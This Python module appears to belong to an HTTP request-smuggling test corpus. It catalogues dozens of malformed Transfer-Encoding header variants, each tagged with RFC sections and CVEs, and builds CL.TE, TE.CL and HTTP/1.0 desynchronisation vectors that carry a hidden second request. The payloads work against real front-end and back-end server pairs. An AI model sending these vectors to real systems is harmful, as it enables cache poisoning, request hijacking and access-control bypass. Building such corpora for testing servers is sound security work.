"""Transfer-Encoding against Content-Length, with Transfer-Encoding written in every way that some server takes for chunked and
another does not."""

from smuggling.corpus import CHUNK, CHUNKED, HIDDEN, SIZE, post, vector

# Name, source, header lines. Shown to a server that may or may not take them for `Transfer-Encoding: chunked`.
FORMS = [
    ("plain", "RFC 9112 6.3; CVE-2005-2088", b"Transfer-Encoding: chunked"),
    ("lower-case name", "RFC 9110 5.1", b"transfer-encoding: chunked"),
    ("upper-case name", "RFC 9110 5.1", b"TRANSFER-ENCODING: chunked"),
    ("capital", "RFC 9112 7", b"Transfer-Encoding: Chunked"),
    ("upper case", "RFC 9112 7", b"Transfer-Encoding: CHUNKED"),
    ("mixed case", "RFC 9112 7", b"Transfer-Encoding: cHuNkEd"),
    ("no space", "RFC 9112 5", b"Transfer-Encoding:chunked"),
    ("two spaces", "RFC 9112 5.1", b"Transfer-Encoding:  chunked"),
    ("tab", "RFC 9112 5.1", b"Transfer-Encoding:\tchunked"),
    ("trailing space", "RFC 9112 5.1", b"Transfer-Encoding: chunked "),
    ("trailing tab", "RFC 9112 5.1", b"Transfer-Encoding: chunked\t"),
    ("space before colon", "RFC 9112 5.1; CVE-2019-16869", b"Transfer-Encoding : chunked"),
    ("tab before colon", "RFC 9112 5.1; CVE-2019-16276", b"Transfer-Encoding\t: chunked"),
    ("vertical tab before colon", "RFC 9110 5.1", b"Transfer-Encoding\x0b: chunked"),
    ("NUL before colon", "RFC 9110 5.1", b"Transfer-Encoding\x00: chunked"),
    ("NUL before name", "RFC 9110 5.1", b"\x00Transfer-Encoding: chunked"),
    ("CR before colon", "RFC 9112 2.2", b"Transfer-Encoding\r: chunked"),
    ("two colons", "RFC 9112 7", b"Transfer-Encoding:: chunked"),
    ("equals sign", "RFC 9112 5", b"Transfer-Encoding=chunked"),
    ("no colon", "RFC 9112 5", b"Transfer-Encoding chunked"),
    ("space in name", "RFC 9110 5.1; CVE-2015-5739", b"Transfer Encoding: chunked"),
    ("vertical tab", "RFC 9112 7; CVE-2019-18277", b"Transfer-Encoding:\x0bchunked"),
    ("space and vertical tab", "RFC 9112 7; CVE-2019-16789", b"Transfer-Encoding: \x0bchunked"),
    ("trailing vertical tab", "RFC 9112 7; CVE-2019-16789", b"Transfer-Encoding: chunked\x0b"),
    ("form feed", "RFC 9110 5.5", b"Transfer-Encoding: \x0cchunked"),
    ("trailing form feed", "RFC 9110 5.5", b"Transfer-Encoding: chunked\x0c"),
    ("NUL", "RFC 9110 5.5", b"Transfer-Encoding: \x00chunked"),
    ("trailing NUL", "RFC 9110 5.5", b"Transfer-Encoding: chunked\x00"),
    ("unit separator", "RFC 9110 5.5", b"Transfer-Encoding: chunked\x1f"),
    ("DEL", "RFC 9110 5.5", b"Transfer-Encoding: chunked\x7f"),
    ("no-break space of Latin-1", "RFC 9110 5.5", b"Transfer-Encoding: chunked\xa0"),
    ("next line of Latin-1", "RFC 9110 5.5", b"Transfer-Encoding: \x85chunked"),
    ("byte order mark", "RFC 9110 5.5", b"Transfer-Encoding: \xef\xbb\xbfchunked"),
    ("Kelvin sign", "RFC 9110 5.6.2", "Transfer-Encoding: chun\u212aed".encode()),
    ("trailing CR", "RFC 9112 2.2; CVE-2023-30589", b"Transfer-Encoding: chunked\r"),
    ("CR between", "RFC 9112 2.2", b"Transfer-Encoding: chun\rked"),
    ("xchunked", "RFC 9112 6.1", b"Transfer-Encoding: xchunked"),
    ("chunkedx", "RFC 9112 6.1; CVE-2019-15605", b"Transfer-Encoding: chunkedchunked"),
    ("word before", "RFC 9112 7", b"Transfer-Encoding: x chunked"),
    ("word behind", "RFC 9112 7", b"Transfer-Encoding: chunked x"),
    ("space between", "RFC 9112 7", b"Transfer-Encoding: chun ked"),
    ("double quotes", "RFC 9112 7", b'Transfer-Encoding: "chunked"'),
    ("single quotes", "RFC 9112 7", b"Transfer-Encoding: 'chunked'"),
    ("backslash", "RFC 9110 5.6.4", b"Transfer-Encoding: chunke\\d"),
    ("parameter", "RFC 9112 7", b"Transfer-Encoding: chunked;q=1"),
    ("semicolon", "RFC 9112 7", b"Transfer-Encoding: chunked;"),
    ("comma behind", "RFC 9110 5.6.1", b"Transfer-Encoding: chunked,"),
    ("comma before", "RFC 9110 5.6.1; CVE-2022-32213", b"Transfer-Encoding: ,chunked"),
    ("commas around", "RFC 9110 5.6.1", b"Transfer-Encoding: , chunked ,"),
    ("chunked twice in a list", "RFC 9112 6.1; CVE-2020-8287", b"Transfer-Encoding: chunked, chunked"),
    ("identity first", "RFC 9112 7; CVE-2021-33037", b"Transfer-Encoding: identity, chunked"),
    ("identity last", "RFC 9112 6.3; CVE-2021-33037", b"Transfer-Encoding: chunked, identity"),
    ("identity", "RFC 9112 7; CVE-2021-33037", b"Transfer-Encoding: identity"),
    ("gzip first", "RFC 9112 6.1; CVE-2019-16786", b"Transfer-Encoding: gzip, chunked"),
    ("gzip last", "RFC 9112 6.3; CVE-2022-1705", b"Transfer-Encoding: chunked, gzip"),
    ("unknown", "RFC 9112 6.1", b"Transfer-Encoding: cow"),
    ("empty", "RFC 9112 6.1", b"Transfer-Encoding: "),
    ("only a comma", "RFC 9112 6.1", b"Transfer-Encoding: ,"),
    ("two lines", "RFC 9112 6.1; CVE-2020-8287", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked"),
    ("unknown, then chunked", "RFC 9112 6.1; CVE-2021-21299", b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked"),
    ("chunked, then unknown", "RFC 9112 6.3; CVE-2024-1135", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow"),
    ("identity, then chunked", "RFC 9112 6.1", b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked"),
    ("chunked, then identity", "RFC 9112 6.3", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity"),
    ("chunked, then empty", "RFC 9112 6.3", b"Transfer-Encoding: chunked\r\nTransfer-Encoding:"),
    ("folded", "RFC 9112 5.2; CVE-2022-32215", b"Transfer-Encoding:\r\n chunked"),
    ("folded behind", "RFC 9112 5.2; CVE-2022-32215", b"Transfer-Encoding: chunked\r\n , identity"),
    ("folded by tab", "RFC 9112 5.2", b"Transfer-Encoding:\r\n\tchunked"),
    ("folded empty", "RFC 9112 5.2", b"Transfer-Encoding: chunked\r\n "),
    ("fold of another", "RFC 9112 5.2; CVE-2020-7238", b"X: y\r\n Transfer-Encoding: chunked"),
    ("fold of another by tab", "RFC 9112 5.2", b"X: y\r\n\tTransfer-Encoding: chunked"),
    ("behind a bare LF", "RFC 9112 2.2; CVE-2019-16785", b"X: y\nTransfer-Encoding: chunked"),
    ("behind a bare CR", "RFC 9112 2.2; CVE-2022-32214", b"X: y\rTransfer-Encoding: chunked"),
    ("behind LF and CR", "RFC 9112 2.2", b"X: y\n\rTransfer-Encoding: chunked"),
    ("behind CR, CR, LF", "RFC 9112 2.2", b"X: y\r\r\nTransfer-Encoding: chunked"),
    ("value behind a bare LF", "RFC 9112 2.2", b"Transfer-Encoding:\nchunked"),
]
# Header lines of other names: no server may take them for Transfer-Encoding, and a balancer that passes them on is right.
OTHERS = [
    ("underscore", "RFC 9110 5.1", b"Transfer_Encoding: chunked"),
    ("long s", "RFC 9110 5.1", None),
    ("prefix", "RFC 9110 5.1", b"X-Transfer-Encoding: chunked"),
    ("suffix", "RFC 9110 5.1", b"Transfer-Encodings: chunked"),
    ("apostrophe", "RFC 9110 5.1", b"Transfer-Encoding': chunked"),
    ("Content-Encoding", "RFC 9110 8.4", b"Content-Encoding: chunked"),
    ("TE", "RFC 9110 10.1.4", b"TE: chunked"),
    ("Trailer", "RFC 9110 6.6.2", b"Trailer: Transfer-Encoding"),
]

for _name, _source, _line in FORMS:
    # A reader of lengths takes all as the body; a reader of chunks sees the end, and then the hidden request.
    vector("CL.TE", f"CL.TE, {_name}", _source, post(b"Content-Length: %d\r\n" % (SIZE + 5) + _line + b"\r\n", b"0\r\n\r\n" + HIDDEN))
    # A reader of chunks takes all as the body; a reader of lengths takes the size line only.
    vector("TE.CL", f"TE.CL, {_name}", _source, post(_line + b"\r\nContent-Length: %d\r\n" % (len(CHUNK) + 2), CHUNKED))

for _name, _source, _line in OTHERS:
    _line = "Tran\u017ffer-Encoding: chunked".encode() if _line is None else _line
    vector("TE others", f"CL, other name: {_name}", _source,
           post(b"Content-Length: %d\r\n" % (SIZE + 5) + _line + b"\r\n", b"0\r\n\r\n" + HIDDEN))

# Without a length there is no body at all, for who does not know the coding: its first line is no request.
for _name, _source, _line in FORMS[11:46]:
    vector("TE only", f"TE only, {_name}", _source, post(_line + b"\r\n", CHUNKED), eof=False)

for _name, _source, _lines in [
    ("length first", "RFC 9112 6.1; CVE-2022-26377", b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n"),
    ("coding first", "RFC 9112 6.1; CVE-2017-7658", b"Transfer-Encoding: chunked\r\nContent-Length: 0\r\n"),
    ("length around", "RFC 9112 6.1", b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n"),
    ("coding around", "RFC 9112 6.1; CVE-2021-21299", b"Transfer-Encoding: chunked\r\nContent-Length: 0\r\nTransfer-Encoding: x\r\n"),
    ("lengths differ", "RFC 9112 6.3", b"Transfer-Encoding: chunked\r\nContent-Length: 0\r\nContent-Length: 5\r\n"),
    ("bad length", "RFC 9112 6.3; CVE-2022-42252", b"Transfer-Encoding: chunked\r\nContent-Length: x\r\n"),
    ("negative length", "RFC 9112 6.3", b"Content-Length: -1\r\nTransfer-Encoding: chunked\r\n"),
]:
    vector("TE.CL", f"chunks and length 0, {_name}", _source, post(_lines, CHUNKED))
    vector("TE.CL", f"end of chunks, {_name}", _source, post(_lines, b"0\r\n\r\n" + HIDDEN))

for _name, _source, _lines, _body in [
    ("chunked in HTTP/1.0", "RFC 9112 6.1; CVE-2021-33037", b"Transfer-Encoding: chunked\r\n", CHUNKED),
    ("chunked in HTTP/1.0 kept alive", "RFC 9112 6.1", b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n", CHUNKED),
    ("chunked end in HTTP/1.0", "RFC 9112 6.1", b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + HIDDEN),
    ("both in HTTP/1.0", "RFC 9112 6.1", b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + HIDDEN),
    ("identity in HTTP/1.0", "RFC 9112 7", b"Transfer-Encoding: identity\r\nContent-Length: %d\r\n" % SIZE, HIDDEN),
]:
    vector("HTTP/1.0", _name, _source, post(_lines, _body, version=b"HTTP/1.0"))
